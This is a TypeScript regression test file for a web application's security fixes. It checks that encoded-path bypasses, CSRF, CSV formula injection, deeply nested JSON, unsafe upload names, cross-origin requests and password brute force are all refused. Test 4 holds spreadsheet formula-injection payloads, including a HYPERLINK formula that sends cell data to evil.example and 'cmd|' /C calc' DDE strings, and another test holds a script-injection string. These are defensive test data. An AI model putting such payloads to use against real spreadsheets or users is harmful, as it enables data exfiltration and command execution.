/**
 * The reproductions of the outside test (issue 19), each exactly as reported, on every backend:
 * each one answered 2xx or 500 before the fix and is now refused with its status and code in the
 * one bilingual error shape. The classes behind them are tested more widely in
 * path-variants.test.ts, password-paths.test.ts and the hostile-input fuzz test.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { decodeCsv, unescapeFormulaCell } from '@jixiao/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BACKENDS, Client, errorCode, loggedIn, PASSWORD, seedTables, startTestServer, type Res, type TestServer } from '../helpers.ts';
import { json, raw } from './raw-http.ts';
import { SEED_FILE } from '../../src/demo/demo.ts';

const { clean } = seedTables();

/** The one error shape, with both languages, and the expected status and code. */
function refused(res: Res, status: number, code: string): void {
  expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(status);
  expect(errorCode(res)).toBe(code);
  expect(JSON.stringify(res.body)).not.toMatch(/at .*\.ts:\d+|stack/i);
}

describe.each(BACKENDS)('the outside test’s reproductions are refused (%s)', (backend) => {
  let s: TestServer;
  let webDist: string;
  let admin: Client;
  let filer: Client;
  let tableId: string;

  beforeAll(async () => {
    // A web build in place, as in production: /api paths must not fall through to the file server.
    webDist = mkdtempSync(join(tmpdir(), 'jixiao-sec-web-'));
    writeFileSync(join(webDist, 'index.html'), '<!doctype html><title>jixiao</title>');
    s = await startTestServer(backend, { webDist });
    admin = await loggedIn(s.url, s.world.logins.admin);
    filer = await loggedIn(s.url, s.world.logins.filer);
    const doc = structuredClone(clean.find((t) => t.kind === 'project')!);
    const r = await filer.post('/api/tables', { orgId: s.world.orgs.unit.id, document: doc });
    expect(r.status).toBe(201);
    tableId = r.body.table.id;
  }, 120_000);
  afterAll(async () => {
    await s?.close();
    rmSync(webDist, { recursive: true, force: true });
  });

  it('1. a temporary password cannot skip “change your password first” through /%61pi/…', async () => {
    const users = (await admin.get('/api/users')).body.items as Array<{ id: string; login: string }>;
    const target = users.find((u) => u.login === s.world.logins.deptReviewer2)!;
    const reset = await admin.post(`/api/users/${target.id}/reset-password`);
    expect(reset.status).toBe(200);
    const temp = new Client(s.url);
    expect((await temp.login(s.world.logins.deptReviewer2, reset.body.temporaryPassword)).status).toBe(200);
    refused(await temp.get('/api/tables'), 403, 'password_change_required');
    refused(await raw(s.url, 'GET', '/%61pi/tables', { as: temp }), 403, 'password_change_required');
    refused(await raw(s.url, 'POST', `/%61pi/tables/${tableId}/exported`, { as: temp, ...json({ format: 'xlsx' }) }), 403, 'password_change_required');
    refused(await raw(s.url, 'GET', `/api/%74ables/${tableId}`, { as: temp }), 403, 'password_change_required');
    // What it may do still works, however spelled: change the password.
    const changed = await raw(s.url, 'POST', '/api/%6de/password', { as: temp, ...json({ currentPassword: reset.body.temporaryPassword, newPassword: PASSWORD + ' again' }) });
    expect(changed.status, JSON.stringify(changed.body)).toBe(200);
    expect((await temp.get('/api/tables')).status).toBe(200);
  });

  it('2. the sign-in CSRF check cannot be skipped through /api/auth/%6cogin', async () => {
    const c = new Client(s.url);
    refused(await c.post('/api/auth/login', { login: s.world.logins.deptReviewer, password: PASSWORD }), 403, 'csrf_failed');
    const res = await raw(s.url, 'POST', '/api/auth/%6cogin', json({ login: s.world.logins.deptReviewer, password: PASSWORD }));
    refused(res, 403, 'csrf_failed');
    expect(res.headers.get('set-cookie') ?? '').not.toMatch(/jixiao_session=[^;]/);
  });

  it('3. POST /api/me/password applies the password policy (400 weak_password)', async () => {
    const c = await loggedIn(s.url, s.world.logins.deptFiler);
    for (const weak of ['1234567890', 'aaaaaaaaaa', 'password123', 'qwertyuiop', `my-${s.world.logins.deptFiler}-pass`]) {
      const res = await c.post('/api/me/password', { currentPassword: PASSWORD, newPassword: weak });
      refused(res, 400, 'weak_password');
    }
    // Still the old password: nothing was changed.
    expect((await new Client(s.url).login(s.world.logins.deptFiler, PASSWORD)).status).toBe(200);
  });

  it('4. the anonymous open-data CSV escapes formula-leading cells', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
    const doc = structuredClone(clean.find((t) => t.kind === 'project')!) as any;
    doc.projectName = { raw: formulas[0] };
    formulas.slice(1).forEach((f, i) => (doc.indicators[i].name = { raw: f }));
    const created = await filer.post('/api/tables', { orgId: s.world.orgs.unit.id, document: doc });
    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
    const id = created.body.table.id;
    const dr = await loggedIn(s.url, s.world.logins.deptReviewer);
    const fin = await loggedIn(s.url, s.world.logins.finance);
    for (const [c, step] of [[filer, 'submit'], [dr, 'approve'], [fin, 'approve'], [fin, 'publish']] as const) {
      const r = await c.post(`/api/tables/${id}/${step}`, {});
      expect(r.status, `${step}: ${JSON.stringify(r.body).slice(0, 300)}`).toBe(200);
    }
    const res = await new Client(s.url).get('/api/open-data/indicators.csv?region=440823&year=2026');
    expect(res.status).toBe(200);
    const rows = decodeCsv(String(res.body));
    const cells = rows.slice(1).flat();
    // No cell a spreadsheet would run: each of them starts with the apostrophe that marks text …
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // … and reads back to exactly what was filed.
    const back = new Set(cells.map(unescapeFormulaCell));
    for (const f of formulas) expect(back.has(f), f).toBe(true);
  });

  it('5. a valid document with an unknown key nested 1,500–3,000 levels deep is refused (400 too_deep), not a 500 or stored', async () => {
    const doc = structuredClone(clean.find((t) => t.kind === 'project')!);
    const nest = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
    const body = (n: number) => JSON.stringify(doc).replace(/}$/, `,"extra":${nest(n)}}`);
    const current = (await filer.get(`/api/tables/${tableId}`)).body.table.version;
    for (const n of [1500, 2000]) {
      const res = await raw(s.url, 'PUT', `/api/tables/${tableId}`, { as: filer, headers: { 'content-type': 'application/json', 'if-match': `"${current}"` }, body: body(n) });
      refused(res, 400, 'too_deep');
    }
    const created = await raw(s.url, 'POST', '/api/tables', { as: filer, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ orgId: s.world.orgs.unit.id, document: JSON.parse('{}') }).replace('"document":{}', `"document":${body(3000)}`) });
    refused(created, 400, 'too_deep');
    expect((await filer.get(`/api/tables/${tableId}`)).body.table.version).toBe(current);
  });

  it('5b. unknown keys at several levels of a table document are dropped before it is stored, never stored as sent', async () => {
    const doc = structuredClone(clean.find((t) => t.kind === 'project')!) as any;
    doc.projectName = { raw: '未知键项目' };
    doc.extra = { a: { a: { a: 1 } } };
    doc.projectName.injected = '<script>alert(1)</script>';
    doc.period.start.hidden = { deeper: [1, 2, { x: 1 }] };
    doc.indicators[0].value.payload = 'x';
    doc.indicators[1].level2.admin = true;
    const created = await filer.post('/api/tables', { orgId: s.world.orgs.unit.id, document: doc });
    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
    const id = created.body.table.id;
    const keys = ['"extra"', '"injected"', '"hidden"', '"payload"', '"admin"'];
    const stored = JSON.stringify((await filer.get(`/api/tables/${id}`)).body.document);
    for (const k of keys) expect(stored, k).not.toContain(k);
    expect(stored).toContain('未知键项目');
    // The same on a save, and in the stored revision itself (not only in what the API shows).
    const saved = await filer.put(`/api/tables/${id}`, { ...doc, overview: { raw: '保存后' } }, { 'if-match': '"1"' });
    expect(saved.status, JSON.stringify(saved.body).slice(0, 300)).toBe(200);
    const rows = await s.db.database.query<{ document: unknown }>('SELECT document FROM table_revisions WHERE table_id = $1', [id]);
    expect(rows.length).toBe(2);
    for (const r of rows) for (const k of keys) expect(JSON.stringify(r.document), k).not.toContain(k);
  });

  it('6. a NUL in an upload’s file name is not a 500: the name is made safe where the upload enters', async () => {
    const text = readFileSync(SEED_FILE);
    const boundary = 'jixiao-sec-boundary';
    const body = (name: string) =>
      Buffer.concat([
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n`),
        text,
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]);
    const headers = { 'content-type': `multipart/form-data; boundary=${boundary}` };
    for (const q of ['', '?dryRun=1']) {
      const res = await raw(s.url, 'POST', `/api/import${q}`, { as: filer, headers, body: body('seed\u0000evil\u202e.txt') });
      expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBeLessThan(300);
    }
    // What was stored: the name without the NUL and the override.
    const list = await filer.get('/api/tables?year=2026');
    expect(JSON.stringify(list.body)).not.toContain('\\u0000');
  });

  it('state-changing requests from another site are refused even with the right token (403 origin_refused)', async () => {
    const c = await loggedIn(s.url, s.world.logins.deptReviewer);
    const body = { format: 'xlsx' };
    refused(await c.post(`/api/tables/${tableId}/exported`, body, { origin: 'http://evil.example' }), 403, 'origin_refused');
    refused(await c.post(`/api/tables/${tableId}/exported`, body, { origin: 'null' }), 403, 'origin_refused');
    refused(await c.post(`/api/tables/${tableId}/exported`, body, { 'sec-fetch-site': 'cross-site' }), 403, 'origin_refused');
    refused(await c.post(`/api/tables/${tableId}/exported`, body, { 'sec-fetch-site': 'same-site' }), 403, 'origin_refused');
    // Sign-in too (login CSRF).
    const anon = new Client(s.url);
    await anon.get('/api/auth/csrf');
    refused(await anon.post('/api/auth/login', { login: s.world.logins.filer2, password: PASSWORD }, { origin: 'https://evil.example' }), 403, 'origin_refused');
    // The server's own pages are fine: the same origin, or no Origin at all (curl, the CLI).
    const own = new URL(s.url).origin;
    const ok = await c.post(`/api/tables/${tableId}/exported`, body, { origin: own, 'sec-fetch-site': 'same-origin' });
    expect(ok.status, JSON.stringify(ok.body)).not.toBe(403);
    expect((await anon.post('/api/auth/login', { login: s.world.logins.filer2, password: PASSWORD }, { origin: own })).status).toBe(200);
  });

  it('GET /api//tables and other /api spellings no route matches answer 404 not_found, never the file server’s 403', async () => {
    for (const p of ['/api//tables', '//api/tables', '/API/tables', '/api/./tables', '/api/nope']) {
      refused(await raw(s.url, 'GET', p, { as: filer }), 404, 'not_found');
    }
    // The web app itself is still served.
    const page = await raw(s.url, 'GET', '/');
    expect(page.status).toBe(200);
  });
  it('7. 50 parallel wrong passwords for one login: no more than the limit are checked, the rest answer 429', async () => {
    const login = s.world.logins.deptReviewer;
    const clients = await Promise.all(
      Array.from({ length: 50 }, async () => {
        const c = new Client(s.url);
        await c.get('/api/auth/csrf');
        return c;
      }),
    );
    const res = await Promise.all(clients.map((c) => c.post('/api/auth/login', { login, password: 'wrong password!' })));
    const statuses = res.map((r) => r.status);
    // The default limit is 5 failures per login name: exactly 5 passwords are checked (401), however the requests interleave.
    expect(statuses.filter((x) => x === 401).length).toBe(5);
    expect(statuses.filter((x) => x === 429).length).toBe(45);
    for (const r of res.filter((x) => x.status === 429)) refused(r, 429, 'too_many_attempts');
    // Even the right password is refused while locked.
    refused(await new Client(s.url).login(login), 429, 'too_many_attempts');
  });
});
